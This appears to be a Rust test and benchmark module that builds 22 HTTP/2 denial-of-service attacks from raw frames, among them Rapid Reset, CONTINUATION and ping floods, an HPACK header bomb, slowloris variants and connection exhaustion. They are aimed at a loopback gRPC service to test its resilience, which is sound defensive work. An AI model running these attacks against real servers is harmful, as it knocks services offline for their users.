//! Denial-of-service attacks, built from raw HTTP/2 frames (RFC 9113); used by the tests and by the benchmark.

use std::{
    net::{Ipv4Addr, SocketAddr},
    sync::Arc,
    time::{Duration, Instant},
};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
    task::JoinSet,
    time::{sleep, timeout},
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// A denial-of-service attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    /// Calls that are reset as soon as they are made (CVE-2023-44487).
    RapidReset,
    /// A header block of endless CONTINUATION frames (VU#421644).
    ContinuationFlood,
    /// Pings whose acknowledgements are never read (CVE-2019-9512).
    PingFlood,
    /// Settings whose acknowledgements are never read (CVE-2019-9515).
    SettingsFlood,
    /// A large header that is sent once, and referenced thousands of times through the HPACK table (CVE-2016-6581).
    HeaderBomb,
    /// Headers sent one byte at a time.
    SlowHeaders,
    /// Bodies sent one byte at a time, on the maximum number of streams.
    SlowBodies,
    /// Ten thousand connections without an HTTP/2 handshake.
    HalfOpen,
    /// Requests of almost 4 MiB, as fast as flow control allows.
    LargeMessages,
    /// Watchers that never read.
    DeafWatchers,
    /// Calls with large flow-control windows, whose large responses are never read.
    UnreadAnswers,
    /// Calls with the maximum number of headers, whose request messages are never sent.
    HeldHeaders,
    /// Request streams that the server stops reading, because their responses are never read.
    UnreadRequests,
    /// Form posts, which a page of another site can make a browser send.
    Forms,
    /// HTTP/1.1 requests with a body.
    Http1,
    /// Reads that wait for a `min_revision` that doesn't exist.
    FutureRevisions,
    /// Watchers that repeatedly read all changes from the first one on.
    CatchUp,
    /// Requests with lists of two million empty messages, on streams that stay open.
    LongLists,
    /// The same lists, and texts of almost 4 MiB, compressed to a few KiB, on streams that stay open.
    CompressedRequests,
    /// The maximum number of health watches, which need no credentials and never end.
    HealthWatches,
    /// The maximum number of connections, from four addresses: idle after the HTTP/2 handshake.
    IdleConnections,
    /// Searches for a long run of one letter in names that consist of that letter ([`expensive_name`]).
    Searches,
}

pub(crate) const ALL: [Attack; 22] = [
    Attack::RapidReset,
    Attack::ContinuationFlood,
    Attack::PingFlood,
    Attack::SettingsFlood,
    Attack::HeaderBomb,
    Attack::SlowHeaders,
    Attack::SlowBodies,
    Attack::HalfOpen,
    Attack::LargeMessages,
    Attack::DeafWatchers,
    Attack::UnreadAnswers,
    Attack::HeldHeaders,
    Attack::UnreadRequests,
    Attack::Forms,
    Attack::Http1,
    Attack::FutureRevisions,
    Attack::CatchUp,
    Attack::LongLists,
    Attack::CompressedRequests,
    Attack::HealthWatches,
    Attack::IdleConnections,
    Attack::Searches,
];

/// Attacks without credentials, which must not affect authenticated callers.
pub(crate) const UNAUTHENTICATED: [Attack; 2] = [Attack::HealthWatches, Attack::IdleConnections];

/// The username, first and last name of a user who is expensive to search.
pub(crate) fn expensive_name(number: usize) -> [String; 3] {
    let name = "a".repeat(255);
    [format!("{}{number}", "a".repeat(245)), name.clone(), name]
}

impl Attack {
    /// Attacks for `time`, with a pause of `pace` after each burst, from loopback addresses that no other caller
    /// uses. Reconnects whenever the server closes a connection.
    ///
    /// With a token, each call is authenticated.
    pub(crate) async fn attack_repeatedly(
        self,
        target: SocketAddr,
        time: Duration,
        pace: Duration,
        token: Option<&str>,
    ) {
        let end = Instant::now() + time;
        let connections = match self {
            Self::HalfOpen => return half_open(target, end).await,
            Self::IdleConnections => return idle_connections(target, end).await,
            Self::SlowHeaders | Self::HealthWatches | Self::UnreadRequests => 200,
            Self::SlowBodies | Self::DeafWatchers | Self::UnreadAnswers | Self::HeldHeaders => 8,
            _ => 4,
        };
        let token: Arc<str> = token.unwrap_or_default().into();
        let mut attackers = JoinSet::new();
        for number in 0..connections {
            let token = token.clone();
            attackers.spawn(async move {
                while Instant::now() < end {
                    let left = end.saturating_duration_since(Instant::now());
                    // Fails when the server closes the connection.
                    let _ = timeout(left, self.attack_once(target, number, pace, &token)).await;
                    // If connections are closed at once, don't fill the machine with closed sockets.
                    sleep(Duration::from_millis(20)).await;
                }
            });
        }
        while attackers.join_next().await.is_some() {}
    }

    async fn attack_once(
        self,
        target: SocketAddr,
        number: u8,
        pace: Duration,
        token: &str,
    ) -> std::io::Result<()> {
        if self == Self::Http1 {
            return http_1(target, number).await;
        }
        let mut stream = begin(target, number).await?;
        let call = |rpc| headers(rpc, b"application/grpc", token);
        match self {
            Self::RapidReset => {
                for first in (1..).step_by(100) {
                    let mut frames = Vec::new();
                    for id in (first..).step_by(2).take(50) {
                        frames.extend(frame(HEADERS, END_HEADERS, id, &call("CheckAccess")));
                        frames.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
                    }
                    stream.write_all(&frames).await?;
                    sleep(pace).await;
                }
            }
            Self::ContinuationFlood => {
                stream
                    .write_all(&frame(HEADERS, 0, 1, &call("CheckAccess")))
                    .await?;
                let mut more = Vec::new();
                for _ in 0..64 {
                    literal(&mut more, b"x-more", &[b'x'; 200]);
                }
                let more = frame(CONTINUATION, 0, 1, &more);
                loop {
                    stream.write_all(&more).await?;
                    sleep(pace).await;
                }
            }
            Self::PingFlood => {
                let pings = frame(PING, 0, 0, &[7; 8]).repeat(100);
                loop {
                    stream.write_all(&pings).await?;
                    sleep(pace).await;
                }
            }
            Self::SettingsFlood => {
                let settings = frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(100);
                loop {
                    stream.write_all(&settings).await?;
                    sleep(pace).await;
                }
            }
            Self::HeaderBomb => {
                for id in (1..).step_by(2) {
                    let mut headers = call("CheckAccess");
                    // Added to the dynamic table (RFC 7541, section 6.2.1), then referenced by one byte each time.
                    headers.push(0x40);
                    text(&mut headers, b"x-bomb");
                    text(&mut headers, &[b'x'; 3900]);
                    headers.extend([0xbe; 10_000]);
                    stream
                        .write_all(&frame(HEADERS, END_HEADERS | END_STREAM, id, &headers))
                        .await?;
                    sleep(pace).await;
                }
            }
            Self::SlowHeaders => {
                let headers = frame(HEADERS, END_HEADERS, 1, &call("CheckAccess"));
                for byte in headers {
                    stream.write_all(&[byte]).await?;
                    sleep(Duration::from_millis(100)).await;
                }
            }
            Self::SlowBodies => {
                let ids = || (1..2000).step_by(2);
                for id in ids() {
                    let mut frames = frame(HEADERS, END_HEADERS, id, &call("CreateGroup"));
                    // The prefix announces a message of 3 MiB.
                    frames.extend(frame(DATA, 0, id, &[0, 0, 0x30, 0, 0]));
                    stream.write_all(&frames).await?;
                }
                for id in ids().cycle() {
                    stream.write_all(&frame(DATA, 0, id, &[0])).await?;
                    sleep(Duration::from_millis(1)).await;
                }
            }
            Self::LargeMessages => {
                let request = message(false, &long_title());
                let calls = [(call("CreateGroup"), request)];
                upload(stream, pace, &calls, END_STREAM).await?;
            }
            Self::LongLists => {
                let request = message(false, &empty_questions());
                let calls = [(call("BatchCheckAccess"), request)];
                upload(stream, pace, &calls, 0).await?;
            }
            Self::CompressedRequests => {
                let calls = [
                    ("BatchCheckAccess", empty_questions()),
                    ("CreateGroup", long_title()),
                ];
                let calls = calls.map(|(rpc, request)| {
                    let mut headers = call(rpc);
                    literal(&mut headers, b"grpc-encoding", b"gzip");
                    (headers, message(true, &gzip(&request)))
                });
                upload(stream, pace, &calls, 0).await?;
            }
            Self::DeafWatchers => {
                // A window of 0: the server can't send anything.
                stream
                    .write_all(&frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]))
                    .await?;
                for id in (1..1000).step_by(2) {
                    let mut frames = frame(HEADERS, END_HEADERS, id, &call("WatchChanges"));
                    frames.extend(frame(DATA, END_STREAM, id, &[0; 5]));
                    stream.write_all(&frames).await?;
                }
                std::future::pending::<()>().await;
            }
            Self::UnreadAnswers => {
                stream.write_all(&large_windows()).await?;
                // Requests a file descriptor with its comments.
                let mut question = vec![0, 0, 0, 0, 24, 0x22, 22];
                question.extend(b"groups.v1.GroupService");
                for id in (1..2000).step_by(2) {
                    let reflection = call("ServerReflectionInfo");
                    let mut frames = frame(HEADERS, END_HEADERS, id, &reflection);
                    frames.extend(frame(DATA, END_STREAM, id, &question));
                    stream.write_all(&frames).await?;
                }
                sleep(pace.max(Duration::from_millis(300))).await;
            }
            Self::HeldHeaders => {
                for id in (1..2000).step_by(2) {
                    // Headers with an empty value from the static table (RFC 7541, appendix A, index 23), one byte
                    // each.
                    let mut headers = call(if id % 4 == 1 { "CreateGroup" } else { "Check" });
                    headers.extend([0x80 | 23; 400]);
                    stream
                        .write_all(&frame(HEADERS, END_HEADERS, id, &headers))
                        .await?;
                }
                sleep(Duration::from_secs(5)).await;
            }
            Self::UnreadRequests => {
                // A window of 0: the server can't send responses.
                stream
                    .write_all(&frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]))
                    .await?;
                let question = message(
                    false,
                    &[b"\x0a\x80\x40", &[b'x'; 8192][..], b"\x3a\0"].concat(),
                );
                let calls = [(call("ServerReflectionInfo"), question.repeat(20))];
                upload(stream, pace, &calls, 0).await?;
            }
            Self::Forms => {
                let (mut reading, mut writing) = stream.into_split();
                let reading = async { tokio::io::copy(&mut reading, &mut tokio::io::sink()).await };
                let writing = async {
                    for first in (1..).step_by(100) {
                        let mut frames = Vec::new();
                        for id in (first..).step_by(2).take(50) {
                            let form = b"application/x-www-form-urlencoded";
                            let form = headers("CreateGroup", form, token);
                            frames.extend(frame(HEADERS, END_HEADERS, id, &form));
                            frames.extend(frame(DATA, END_STREAM, id, b"title=Ops&role_ids=x"));
                        }
                        writing.write_all(&frames).await?;
                        sleep(pace).await;
                    }
                    Ok::<_, std::io::Error>(())
                };
                tokio::try_join!(reading, writing)?;
            }
            Self::FutureRevisions => {
                // `min_revision` = 2^40.
                let request = [0, 0, 0, 0, 7, 0x40, 0x80, 0x80, 0x80, 0x80, 0x80, 0x20];
                let wait = Duration::from_secs(5);
                call_and_read(stream, &call("ListGroups"), &request, wait).await?;
            }
            Self::CatchUp => {
                // `from_revision` = 1.
                let request = [0, 0, 0, 0, 2, 0x08, 1];
                let wait = Duration::from_millis(500);
                call_and_read(stream, &call("WatchChanges"), &request, wait).await?;
            }
            Self::Searches => {
                // `query` = 254 times `a`, and `b`.
                let mut request = vec![0, 0, 0, 1, 2, 0x1a, 0xff, 1];
                request.extend([b'a'; 254]);
                request.push(b'b');
                let wait = Duration::from_secs(5);
                call_and_read(stream, &call("ListUsers"), &request, wait).await?;
            }
            Self::HealthWatches => {
                call_and_read(stream, &call("Watch"), &[0; 5], Duration::from_secs(5)).await?;
            }
            Self::HalfOpen | Self::IdleConnections | Self::Http1 => {}
        }
        Ok(())
    }
}

/// Opens the maximum flow-control windows: 2^31-1 bytes for each stream and for the connection.
fn large_windows() -> Vec<u8> {
    let mut frames = frame(SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]);
    let more: u32 = 0x7fff_ffff - 65_535;
    frames.extend(frame(WINDOW_UPDATE, 0, 0, &more.to_be_bytes()));
    frames
}

/// Makes 225 concurrent calls, and reads their responses for `time`.
async fn call_and_read(
    mut stream: TcpStream,
    headers: &[u8],
    request: &[u8],
    time: Duration,
) -> std::io::Result<()> {
    let mut frames = large_windows();
    for id in (1..).step_by(2).take(225) {
        frames.extend(frame(HEADERS, END_HEADERS, id, headers));
        frames.extend(frame(DATA, END_STREAM, id, request));
    }
    stream.write_all(&frames).await?;
    let reading = async { tokio::io::copy(&mut stream, &mut tokio::io::sink()).await };
    // The streams stay open while they are read.
    let _ = timeout(time, reading).await;
    Ok(())
}

/// Sends a request whose body continues after the response.
async fn http_1(target: SocketAddr, number: u8) -> std::io::Result<()> {
    let mut stream = connect(target, number % 4).await?;
    let head = "POST /groups.v1.GroupService/CreateGroup HTTP/1.1\r\nhost: x\r\n\
                content-type: application/grpc\r\ncontent-length: 1000000\r\n\r\n";
    stream.write_all(head.as_bytes()).await?;
    let part = [b'x'; 1000];
    for _ in 0..1000 {
        stream.write_all(&part).await?;
        sleep(Duration::from_millis(1)).await;
    }
    Ok(())
}

/// Opens ten thousand connections, a thousand from each address; doesn't reconnect.
async fn half_open(target: SocketAddr, end: Instant) {
    let mut open = Vec::new();
    for number in 0..10_000_u32 {
        let Ok(from) = u8::try_from(number / 1000) else {
            break;
        };
        let connected = timeout(Duration::from_secs(1), connect(target, from)).await;
        if let Ok(Ok(mut stream)) = connected {
            // Half of them send part of the preface.
            if number % 2 == 0 {
                let _ = stream.write_all(&PREFACE[..10]).await;
            }
            open.push(stream);
        }
    }
    sleep(end.saturating_duration_since(Instant::now())).await;
}

/// A `BatchCheckAccessRequest` with two million empty messages in `questions`, its first field.
pub(crate) fn empty_questions() -> Vec<u8> {
    [0x0a, 0].repeat(2_000_000)
}

/// A `CreateGroupRequest` with a title of almost 4 MiB.
pub(crate) fn long_title() -> Vec<u8> {
    let length = 3_999_995_u32;
    // The tag of the first field and its length, as a varint of four bytes.
    let mut request = vec![0x0a];
    request.extend((0..4).map(|byte| {
        let bits = (length >> (7 * byte)) & 0x7f;
        u8::try_from(bits).expect("seven bits") | if byte < 3 { 0x80 } else { 0 }
    }));
    request.resize(request.len() + length as usize, b'x');
    request
}

pub(crate) fn gzip(data: &[u8]) -> Vec<u8> {
    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut packed, data).expect("memory");
    packed.finish().expect("memory")
}

/// Adds the gRPC length prefix to a message.
pub(crate) fn message(compressed: bool, data: &[u8]) -> Vec<u8> {
    let length = u32::try_from(data.len()).expect("short").to_be_bytes();
    [&[u8::from(compressed)][..], &length, data].concat()
}

/// Opens 1024 connections from each of four addresses; doesn't reconnect.
async fn idle_connections(target: SocketAddr, end: Instant) {
    let mut open = Vec::new();
    for number in 0..4096_u32 {
        let from = u8::try_from(number % 4).unwrap_or_default();
        let begun = timeout(Duration::from_secs(1), begin(target, from)).await;
        open.extend(begun.ok().and_then(Result::ok));
    }
    sleep(end.saturating_duration_since(Instant::now())).await;
}

/// Repeats these calls, each with its headers and its message, as fast as flow control allows. `last` are the flags
/// of a message's last frame: without `END_STREAM` the stream stays open.
async fn upload(
    stream: TcpStream,
    pace: Duration,
    calls: &[(Vec<u8>, Vec<u8>)],
    last: u8,
) -> std::io::Result<()> {
    let (mut reading, mut writing) = stream.into_split();
    let mut window: i64 = 65_535;
    let mut streams = std::collections::HashMap::<u32, i64>::new();
    let mut initial: i64 = 65_535;
    for (id, (headers, message)) in (1..).step_by(2).zip(calls.iter().cycle()) {
        writing
            .write_all(&frame(HEADERS, END_HEADERS, id, headers))
            .await?;
        streams.insert(id, initial);
        let mut left = &message[..];
        while !left.is_empty() {
            let room = window.min(streams[&id]);
            if room <= 0 {
                // Only frames that change the windows or end the stream matter.
                let mut header = [0; 9];
                reading.read_exact(&mut header).await?;
                let length = u32::from_be_bytes([0, header[0], header[1], header[2]]);
                let mut payload = vec![0; length as usize];
                reading.read_exact(&mut payload).await?;
                let of = u32::from_be_bytes([header[5], header[6], header[7], header[8]]);
                match (header[3], &payload[..]) {
                    (WINDOW_UPDATE, [a, b, c, d]) => {
                        let more = i64::from(u32::from_be_bytes([*a, *b, *c, *d]));
                        match streams.get_mut(&of) {
                            _ if of == 0 => window += more,
                            Some(stream) => *stream += more,
                            None => {}
                        }
                    }
                    (SETTINGS, settings) if header[4] & 1 == 0 => {
                        for setting in settings.chunks_exact(6).filter(|setting| setting[1] == 4) {
                            let [_, _, a, b, c, d] = setting.try_into().expect("six bytes");
                            let now = i64::from(u32::from_be_bytes([a, b, c, d]));
                            for stream in streams.values_mut() {
                                *stream += now - initial;
                            }
                            initial = now;
                        }
                        writing.write_all(&frame(SETTINGS, 1, 0, &[])).await?;
                    }
                    // The server has responded early, and discards the rest of the message.
                    (RST_STREAM | HEADERS, _) if of == id => break,
                    _ => {}
                }
                continue;
            }
            let now = left.len().min(16 << 10);
            let now = now.min(usize::try_from(room).expect("positive"));
            let (part, rest) = left.split_at(now);
            let flags = if rest.is_empty() { last } else { 0 };
            writing.write_all(&frame(DATA, flags, id, part)).await?;
            left = rest;
            let now = i64::try_from(now).expect("short");
            window -= now;
            *streams.entry(id).or_default() -= now;
        }
        streams.remove(&id);
        sleep(pace).await;
    }
    Ok(())
}

async fn connect(target: SocketAddr, number: u8) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((Ipv4Addr::new(127, 66, 6, number.wrapping_add(1)), 0).into())?;
    socket.connect(target).await
}

async fn begin(target: SocketAddr, number: u8) -> std::io::Result<TcpStream> {
    let mut stream = connect(target, number % 4).await?;
    let mut beginning = PREFACE.to_vec();
    beginning.extend(frame(SETTINGS, 0, 0, &[]));
    stream.write_all(&beginning).await?;
    Ok(stream)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("short").to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Encodes the headers of a request, as literals that aren't added to the dynamic table.
fn headers(rpc: &str, content_type: &[u8], token: &str) -> Vec<u8> {
    let service = match rpc {
        "CheckAccess" | "BatchCheckAccess" => "groups.v1.AccessService",
        "WatchChanges" => "groups.v1.ChangeService",
        "Watch" | "Check" => "grpc.health.v1.Health",
        "ListUsers" => "groups.v1.UserService",
        "ServerReflectionInfo" => "grpc.reflection.v1.ServerReflection",
        _ => "groups.v1.GroupService",
    };
    let mut headers = vec![0x83, 0x86];
    literal(
        &mut headers,
        b":path",
        format!("/{service}/{rpc}").as_bytes(),
    );
    literal(&mut headers, b":authority", b"localhost");
    literal(&mut headers, b"content-type", content_type);
    literal(&mut headers, b"te", b"trailers");
    if !token.is_empty() {
        let token = format!("Bearer {token}");
        literal(&mut headers, b"authorization", token.as_bytes());
    }
    headers
}

/// Encodes a literal header without indexing (RFC 7541, section 6.2.2).
fn literal(headers: &mut Vec<u8>, name: &[u8], value: &[u8]) {
    headers.push(0);
    text(headers, name);
    text(headers, value);
}

/// Encodes a string literal (RFC 7541, section 5.2).
fn text(headers: &mut Vec<u8>, text: &[u8]) {
    let mut length = text.len();
    if length < 0x7f {
        headers.push(u8::try_from(length).expect("short"));
    } else {
        headers.push(0x7f);
        length -= 0x7f;
        while length >= 0x80 {
            headers.push(u8::try_from(length % 0x80).expect("short") | 0x80);
            length /= 0x80;
        }
        headers.push(u8::try_from(length).expect("short"));
    }
    headers.extend(text);
}
